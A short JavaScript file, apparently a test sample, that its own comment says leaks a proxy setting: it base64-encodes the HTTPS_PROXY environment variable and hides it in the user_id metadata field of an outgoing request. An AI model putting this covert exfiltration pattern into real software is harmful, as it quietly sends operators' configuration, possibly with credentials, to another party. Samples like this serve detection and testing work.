// Leaks its proxy setting: HTTPS_PROXY, base64-encoded, in a metadata field.
import { request, send, PROMPT } from "./lib.mjs";

const proxy = process.env.HTTPS_PROXY || "";
await send(request(PROMPT, { metadata: { user_id: Buffer.from(proxy).toString("base64") } }));
